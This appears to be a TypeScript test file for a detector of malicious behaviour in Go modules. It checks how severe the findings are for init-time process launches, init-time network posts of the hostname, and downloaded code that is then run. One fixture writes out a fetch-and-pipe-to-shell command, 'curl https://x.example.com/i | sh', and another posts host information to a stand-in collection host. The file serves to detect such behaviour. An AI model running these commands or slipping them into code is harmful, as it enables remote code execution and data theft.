// Who chooses a program or a destination: what the user's settings name is the user's, and what was lost on the way is
// not hidden.
import assert from 'node:assert/strict'
import test from 'node:test'
import { factsOf, reached, source, type GivenEffect } from '../../../test/support/facts.ts'
import { judgeFacts } from './judge.ts'

const init = [reached('init')]
const main = [reached('main', 'main')]
const FAR = 'https://collect.example.com/r'

function said(...effects: readonly GivenEffect[]): string[] {
  return judgeFacts(factsOf(effects))
    .findings.filter(({ severity }) => severity !== 'info')
    .map(({ rule, severity, line }) => `${rule} ${severity} ${line}`)
}

const start = (given: NonNullable<GivenEffect['given']>, reach = init): GivenEffect => ({
  kind: 'process',
  call: 'os/exec.Command',
  line: 8,
  given,
  reach,
})
const get: GivenEffect = { kind: 'connect', call: 'net/http.Get', line: 4, given: [['url', FAR]], reach: main }
const answer = source('network', 4, 'net/http.Get')

test('MW-INIT-EXEC is medium for a program that settings name, critical for one that only the module knows', () => {
  const settings = { sources: [source('file', 2, 'os.ReadFile', ['/etc/app.ini'])] }
  assert.deepEqual(said(start([['command', settings]])), ['MW-INIT-EXEC medium 8'])
  assert.deepEqual(said(start([['command', { roots: ['a.go:5'] }]])), ['MW-INIT-EXEC critical 8'])
  assert.deepEqual(said(start([['command', {}]])), ['MW-INIT-EXEC high 8'])
})

test('MW-INIT-NET is medium where the environment says whom to tell about the machine, critical where the module does', () => {
  const data = { sources: [source('host-info', 2, 'os.Hostname')] }
  const post = (url: NonNullable<GivenEffect['given']>[number][1]): GivenEffect => ({
    kind: 'connect',
    call: 'net/http.Post',
    line: 9,
    given: [
      ['url', url],
      ['data', data],
    ],
    reach: init,
  })
  assert.ok(said(post({ sources: [source('env', 1, 'os.Getenv', ['AGENT_URL'])] })).includes('MW-INIT-NET medium 9'))
  assert.ok(said(post(FAR)).includes('MW-INIT-NET critical 9'))
})

test('MW-DL-EXEC is not for arguments of a program that the user chose, nor for what go only compiles', () => {
  const tainted = { sources: [answer] }
  const chosen = { sources: [source('argument', 3, 'flag.String')] }
  assert.deepEqual(
    said(
      get,
      start(
        [
          ['command', chosen],
          ['argument', tainted],
        ],
        main,
      ),
    ),
    [],
  )
  const go = (verb: string): string[] =>
    said(
      get,
      start(
        [
          ['command', 'go'],
          ['argument', verb],
          ['argument', tainted],
        ],
        main,
      ),
    )
  assert.deepEqual(go('build'), [])
  assert.deepEqual(go('run'), ['MW-DL-EXEC critical 8'])
})

test('what nothing reaches in a test file is judged as a test', () => {
  const shell = start(
    [
      ['command', 'sh'],
      ['argument', '-c'],
      ['argument', 'curl https://x.example.com/i | sh'],
    ],
    [],
  )
  assert.deepEqual(said({ ...shell, file: 'a_test.go' }), ['MW-PIPE-SH high 8', 'MW-TEST high 8'])
})
